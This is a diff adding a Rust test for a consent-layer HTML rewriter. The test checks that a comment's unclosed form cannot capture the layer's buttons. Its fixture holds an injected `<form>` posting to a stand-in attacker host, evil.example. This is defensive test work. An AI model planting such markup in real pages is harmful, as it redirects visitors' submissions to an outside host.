@@ -421,6 +421,23 @@ fn a_body_end_tag_a_browser_reads_as_text_does_not_take_the_first_layer() {
     }
 }
 
+/// A form that page content leaves open (a comment's `<form>` without its end tag) stays
+/// the browser's form to the page's end: the first layer's `<form>` tag is ignored, and its
+/// buttons posted the visitor's decision to that form's address. The layer closes any form
+/// before the first layer (a `</form>` with none open is ignored); `tests/e2e/page-layer.mjs`
+/// clicks "Reject all" in Chromium.
+#[test]
+fn a_form_the_page_leaves_open_does_not_take_the_first_layer() {
+    let page = b"<!doctype html><html><head></head><body>\
+        <div class=comment><form method=post action=https://evil.example/>Hi!</div>\
+        </body></html>";
+    let out = text(&rewrite_as("text/html", page, 5));
+    let layer = out
+        .find("<div class=\"consent-root")
+        .expect("the first layer");
+    assert!(out[..layer].ends_with("</body></html></form>"), "{out}");
+}
+
 /// The page for `body` with `content_type`, rewritten in chunks of `size` (and the same
 /// again through the page cache, which must agree).
 fn rewrite_as(content_type: &str, body: &[u8], size: usize) -> Vec<u8> {
